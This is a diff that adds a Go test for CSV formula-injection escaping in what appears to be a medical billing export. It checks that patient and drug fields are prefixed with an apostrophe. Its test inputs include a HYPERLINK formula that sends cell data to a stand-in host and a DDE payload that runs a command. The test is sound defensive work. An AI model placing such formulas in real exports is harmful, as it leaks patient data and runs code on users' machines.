@@ -318,3 +318,40 @@ func TestWriteX12Refuses(t *testing.T) {
 		}
 	})
 }
+
+// TestWriteCSVInjection: a cell that begins with =, +, -, @, a tab or a
+// carriage return reaches a spreadsheet as text, not a formula (OWASP CSV
+// injection), whichever text column it is in; numbers stay numbers.
+func TestWriteCSVInjection(t *testing.T) {
+	evil := []string{`=HYPERLINK("http://evil.example/?"&A1,"MRN-1")`, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)", "\t=1+1", "\r=1+1"}
+	for _, e := range evil {
+		l := exportLines()[0]
+		l.MRN, l.Drug, l.Description, l.Code, l.NDCUnit = e, e, e, e, e
+		l.Units = -7 // not a real line: a negative number stays a number
+		var b bytes.Buffer
+		if err := WriteCSV(&b, []Line{l}); err != nil {
+			t.Fatal(err)
+		}
+		rows, err := csv.NewReader(&b).ReadAll()
+		if err != nil {
+			t.Fatal(err)
+		}
+		for i, cell := range rows[1] {
+			switch h := CSVHeader[i]; h {
+			case "mrn", "drug", "description", "code", "ndc_unit":
+				if cell != "'"+e {
+					t.Errorf("%s %q written %q, want %q", h, e, cell, "'"+e)
+				}
+			case "units":
+				if cell != "-7" {
+					t.Errorf("units written %q, want -7", cell)
+				}
+			}
+		}
+	}
+	for in, want := range map[string]string{"": "", "MRN-1": "MRN-1", "J2278": "J2278", "a=b": "a=b", "'=1": "'=1", "=": "'="} {
+		if got := CSVCell(in); got != want {
+			t.Errorf("CSVCell(%q) = %q, want %q", in, got, want)
+		}
+	}
+}
